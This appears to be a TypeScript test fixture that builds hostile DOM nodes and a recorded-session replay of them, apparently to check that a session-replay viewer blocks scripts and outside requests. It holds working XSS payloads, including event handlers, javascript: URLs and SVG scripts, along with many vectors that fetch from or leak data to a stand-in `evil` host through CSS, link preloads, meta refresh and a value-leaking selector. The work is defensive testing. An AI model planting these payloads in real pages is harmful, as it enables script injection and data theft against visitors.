/** What a hostile page could try, once as HTML for a browser without protection, once as a recording of it. */

let nextId = 100

const node = (tagName: string, attributes: Record<string, string> = {}, childNodes: unknown[] = [], isSVG = false) => ({
  type: 2,
  id: nextId++,
  tagName,
  attributes,
  childNodes,
  ...(isSVG && { isSVG: true }),
})
const text = (textContent: string, more: object = {}) => ({ type: 3, id: nextId++, textContent, ...more })

const SPOIL = "top.document.title='hacked';parent.hacked=1;window.hacked=1"

/** Elements that each would ask `evil` for something, run a script, or go away. */
export const hostileNodes = (evil: string) => {
  const svg = (tagName: string, attributes: Record<string, string>, children: unknown[] = []) =>
    node(tagName, attributes, children, true)
  return [
    node('script', {}, [text(`${SPOIL};fetch('${evil}/script')`)]),
    node('script', { src: `${evil}/script.js` }),
    node('img', { src: `${evil}/img.png`, onerror: SPOIL, onload: SPOIL }),
    node('img', { src: 'data:image/png;base64,AAAA', onerror: SPOIL }),
    node('img', { srcset: `${evil}/a.png 1x, ${evil}/b.png 2x`, ONERROR: SPOIL }),
    node('picture', {}, [
      node('source', { srcset: `${evil}/source.png` }),
      node('img', { src: `${evil}/fallback.png` }),
    ]),
    node('a', { href: `javascript:${SPOIL}`, ping: `${evil}/ping`, id: 'bait' }, [text('a link')]),
    node('a', { href: `data:text/html,<script>${SPOIL}</script>` }, [text('another link')]),
    node('base', { href: `${evil}/base/` }),
    node('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    node('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }),
    node('link', { rel: 'stylesheet', href: `${evil}/link.css` }),
    ...['preload', 'prefetch', 'dns-prefetch', 'preconnect', 'prerender', 'icon', 'manifest', 'modulepreload'].map(
      (rel) => node('link', { rel, as: 'image', href: `${evil}/${rel}` }),
    ),
    node('iframe', { src: `${evil}/frame` }),
    node('iframe', { srcdoc: `<script>${SPOIL}</script><img src="${evil}/srcdoc.png">` }),
    node('iframe', { src: `javascript:${SPOIL}` }),
    node('object', { data: `${evil}/object` }),
    node('embed', { src: `${evil}/embed` }),
    node('form', { action: `${evil}/form`, onsubmit: SPOIL }, [
      node('input', {
        autofocus: '',
        onfocus: SPOIL,
        formaction: `${evil}/formaction`,
        type: 'image',
        src: `${evil}/input.png`,
      }),
    ]),
    node('video', { src: `${evil}/video.mp4`, poster: `${evil}/poster.png`, autoplay: '' }, [
      node('source', { src: `${evil}/video-source.mp4`, onerror: SPOIL }),
      node('track', { src: `${evil}/track.vtt`, default: '' }),
    ]),
    node('audio', { src: `${evil}/audio.mp3`, autoplay: '' }),
    node('table', { background: `${evil}/background.png` }),
    node('div', { style: `background:url(${evil}/style.png)`, onmouseover: SPOIL }, [text('div')]),
    node('div', { style: `background:u\\72l("${evil}/escaped.png")` }, [text('div')]),
    node('div', { style: `background-image:image-set("${evil}/image-set.png" 1x)` }, [text('div')]),
    node('style', {}, [text(`@import url(${evil}/import.css);@\\69mport "${evil}/import2.css";`, { isStyle: true })]),
    node('style', { _cssText: `body{background:url('${evil}/css.png')}/*' */li{list-style:url(${evil}/list.png)}` }),
    node('style', {
      _cssText: `@font-face{font-family:x;src:url(${evil}/font.woff)}*{font-family:x}input[value^="a"]{background:url(${evil}/leak-a)}`,
    }),
    svg('svg', { onload: SPOIL, width: '10', height: '10' }, [
      svg('image', { href: `${evil}/svg-image.png`, onerror: SPOIL, width: '9', height: '9' }),
      svg('image', { 'xlink:href': `${evil}/svg-xlink.png`, width: '9', height: '9' }),
      svg('use', { href: `${evil}/use.svg#x` }),
      svg('rect', { fill: `url(${evil}/fill.svg#x)`, filter: `url(${evil}/filter.svg#x)`, width: '9', height: '9' }),
      svg('image', { width: '9', height: '9' }, [
        svg('set', { attributeName: 'href', to: `${evil}/set.png` }),
        svg('animate', { attributeName: 'href', values: `${evil}/animate.png` }),
      ]),
      svg('foreignObject', {}, [node('img', { src: `${evil}/foreign.png` })]),
      svg('script', {}, [text(SPOIL)]),
      svg('style', {}, [text(`rect{fill:url(${evil}/svg-style.svg#x)}`)]),
    ]),
    node('bad name<img src=x onerror=alert(1)>', {}, [text('odd tag')]),
    node('div', { 'x"onclick=': SPOIL, 'a b': '1' }, [text('odd attribute')]),
  ]
}

/** A recording, in the V1 format, of a page with all of that: some in the snapshot, all of it again a second later. */
export const hostileRecording = (evil: string, start: number) => {
  const body = node('body', { onload: SPOIL }, [node('p', {}, [text('Before the attack')]), ...hostileNodes(evil)])
  const target = node('div', { id: 'target' })
  body.childNodes.push(target)
  const document = {
    type: 0,
    id: 1,
    childNodes: [
      { type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
      node('html', {}, [node('head', {}, []), body]),
    ],
  }
  const mutation = {
    source: 0,
    adds: hostileNodes(evil).map((one) => ({ parentId: target.id, nextId: null, node: one })),
    removes: [],
    texts: [],
    attributes: [
      { id: target.id, attributes: { style: `background:url(${evil}/later.png)`, onclick: SPOIL, onfocus: SPOIL } },
    ],
  }
  return [
    { type: 4, timestamp: start, data: { width: 800, height: 600, href: `${evil}/` } },
    { type: 6, timestamp: start, data: { has_focus: true } },
    { type: 2, timestamp: start, data: { node: document, initialOffset: { left: 0, top: 0 } } },
    { type: 3, timestamp: start + 1000, data: mutation },
    { type: 3, timestamp: start + 1500, data: { source: 2, type: 2, id: target.id, x: 5, y: 5 } },
    { type: 3, timestamp: start + 2000, data: { source: 1, positions: [{ x: 9, y: 9, id: 1, timeOffset: 0 }] } },
  ]
}

/** The same as HTML, for a browser: what it asks for shows that the attacks are real. */
export const hostileHtml = (evil: string): string => hostileNodes(evil).map(htmlOf).join('\n')

const htmlOf = (one: unknown): string => {
  const {
    tagName,
    attributes = {},
    childNodes = [],
    textContent,
  } = one as {
    tagName?: string
    attributes?: Record<string, string>
    childNodes?: unknown[]
    textContent?: string
  }
  if (tagName === undefined) return textContent ?? ''
  const { _cssText = '', ...own } = attributes
  const written = Object.entries(own).map(([name, value]) => ` ${name}="${value.replaceAll('"', '&quot;')}"`)
  return `<${tagName}${written.join('')}>${_cssText}${childNodes.map(htmlOf).join('')}</${tagName}>`
}
